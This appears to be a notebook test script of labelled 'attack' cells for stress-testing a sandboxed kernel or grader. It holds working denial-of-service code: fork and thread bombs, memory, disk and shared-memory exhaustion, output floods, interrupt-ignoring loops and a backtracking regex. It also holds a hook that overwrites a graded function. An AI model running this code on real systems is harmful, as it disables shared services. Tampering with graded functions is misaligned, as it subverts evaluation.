# %% setup
import os, sys, threading, time
import numpy as np

# %% attack: takes all memory
hog = []
while True:
    hog.append(np.ones(20_000_000))

# %% attack: takes memory in small pieces
hog = []
while True:
    hog.append(bytearray(100_000))

# %% attack: fork bomb
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.1)

# %% attack: thread bomb
def idle():
    time.sleep(1000)
try:
    for _ in range(100_000):
        threading.Thread(target=idle, daemon=True).start()
except RuntimeError as error:
    print(error)

# %% attack: print flood
while True:
    print("x" * 10_000)

# %% attack: one huge print
print("x" * 300_000_000)

# %% attack: display flood
from IPython.display import HTML, display
while True:
    display(HTML("x" * 1_000_000))

# %% attack: one huge figure
from IPython.display import Image, display
display(Image(data=b"\x89PNG\r\n\x1a\n" + os.urandom(120_000_000)))

# %% attack: fills the disk
with open("/tmp/full", "wb") as stream:
    while True:
        stream.write(bytes(1_000_000))

# %% attack: fills the disk with small files
n = 0
while True:
    open(f"/tmp/{n}", "w").write("x")
    n += 1

# %% attack: endless loop
while True:
    pass

# %% attack: endless loop that ignores interrupts
while True:
    try:
        while True:
            pass
    except BaseException:
        pass

# %% attack: sleeps with signals ignored
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
time.sleep(10_000)

# %% attack: endless recursion
sys.setrecursionlimit(10**9)
def deeper():
    return deeper()
deeper()

# %% attack: a number without end
10 ** 10 ** 10

# %% attack: waits for input
input("points? ")

# %% attack: a result without end
def softmax_backward(weights, upstream):
    return np.zeros(2_000_000_000)
get_ipython().events.register("post_run_cell", lambda *_: get_ipython().user_ns.update(softmax_backward=softmax_backward))

# %% attack: a regular expression without end
import re
re.match(r"(a+)+$", "a" * 40 + "b")

# %% attack: fills shared memory
with open("/dev/shm/full", "wb") as stream:
    while True:
        stream.write(bytes(1_000_000))

# %% attack: memory in page tables
import mmap
maps = [mmap.mmap(-1, 1 << 34, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, prot=mmap.PROT_READ) for _ in range(64)]
for m in maps:
    for offset in range(0, 1 << 34, 1 << 21):
        m[offset]

# %% attack: memory in sockets
import socket
for _ in range(24):
    if os.fork() == 0:
        pairs = [socket.socketpair() for _ in range(100)]
        for end in [end for pair in pairs for end in pair]:
            end.setblocking(False)
            try:
                while True:
                    end.send(bytes(65536))
            except BlockingIOError:
                pass
        time.sleep(20)
time.sleep(3)

# %% attack: pictures that are small to send and large to decode
import io
from IPython.display import Image as Shown, display
from PIL import Image
buffer = io.BytesIO()
Image.new("1", (4000, 4000)).save(buffer, "PNG")
for _ in range(2000):
    display(Shown(data=buffer.getvalue()))

# %% attack: a traceback without end
raise type("E", (Exception,), {"__str__": lambda self: "x" * 3_000_000})()

# %% attack: thousands of outputs with one identifier each
from IPython.display import display
for n in range(20_000):
    display(n, display_id=f"d{n}")

# %% attack: output that is no text
os.write(1, bytes(range(256)) * 1000)
print("\ud800\udfff", "".join(map(chr, range(32))) * 100)
sys.stdout.flush()
